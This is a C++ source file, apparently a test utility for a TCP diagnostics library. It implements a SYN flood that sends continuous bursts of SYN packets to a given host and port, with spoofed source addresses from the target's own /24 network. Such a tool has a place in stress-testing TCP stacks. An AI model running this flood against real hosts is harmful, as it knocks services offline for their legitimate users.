// SPDX-License-Identifier: Apache-2.0
// syn_flood TO PORT COUNT [EACH]: so many SYNs to TO:PORT at once, from addresses of TO's /24 that do not
// answer, and then EACH, or fifty, every 100 ms until the program is ended.
#include <unistd.h>

#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <exception>
#include <string>

#include "tests/sockets.h"

namespace {

constexpr std::size_t kUsual = 50;
constexpr unsigned kRound = 100'000;  // microseconds

void send_syns(const std::string& to, std::uint16_t port, std::size_t first, std::size_t count) {
  const auto network = to.substr(0, to.rfind('.') + 1);
  for (auto i = first; i < first + count; ++i) {
    const auto from = network + std::to_string(2 + i % 250);
    tcpdiag::send_syn(from, static_cast<std::uint16_t>(1024 + i / 250 % 60000), to, port);
  }
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 4 && argc != 5) return 2;
  try {
    const auto port = static_cast<std::uint16_t>(std::atoi(argv[2]));
    auto sent = static_cast<std::size_t>(std::atoi(argv[3]));
    const auto each = argc == 5 ? static_cast<std::size_t>(std::atoi(argv[4])) : kUsual;
    send_syns(argv[1], port, 0, sent);
    for (;; sent += each) {
      ::usleep(kRound);
      send_syns(argv[1], port, sent, each);
    }
  } catch (const std::exception& error) {
    std::fprintf(stderr, "syn_flood: %s\n", error.what());
    return 1;
  }
}
